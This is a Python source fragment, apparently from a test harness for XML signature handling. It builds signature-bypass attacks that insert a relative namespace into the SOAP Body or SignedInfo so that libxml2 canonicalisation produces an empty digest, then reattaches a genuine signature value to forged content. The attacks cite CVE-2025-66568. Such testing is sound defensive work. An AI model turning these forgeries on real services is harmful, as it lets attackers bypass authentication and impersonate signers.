        def voided(case: Case, text: str = text) -> Shot:
            """libxml2 has no canonical form for a relative namespace: a digest of nothing, good for any Body."""
            framed = frame(case.form, case.sender, case.evil).replace("<s:Body ", f"<s:Body {text} ")
            return Shot(seal(framed, case.form, case.sender))

        yield Attack(
            "canonical", f"void: relative {name} on Body", "CVE-2025-66568, PortSwigger 2025", wins, voided, form=form
        )

        def voided_info(case: Case, text: str = text) -> Shot:
            how = Sealing(
                signed_info=lambda info: info.replace("<ds:SignedInfo", f"<ds:SignedInfo {text}"), value=lambda _: b""
            )
            honest = Letter(case.base).signature.find(f"{{{DS}}}SignatureValue").text
            made = case.message(case.evil, how).decode()
            return Shot(
                made.replace(
                    "<ds:SignatureValue></ds:SignatureValue>", f"<ds:SignatureValue>{honest}</ds:SignatureValue>"
                ).encode()
            )

        yield Attack(
            "canonical",
            f"void: relative {name} on SignedInfo",
            "CVE-2025-66568, PortSwigger 2025",
            wins,
            voided_info,
            form=form,
        )


def attacks() -> Iterator[Attack]:
    yield from algorithms()
    yield from infos()
    yield from references()
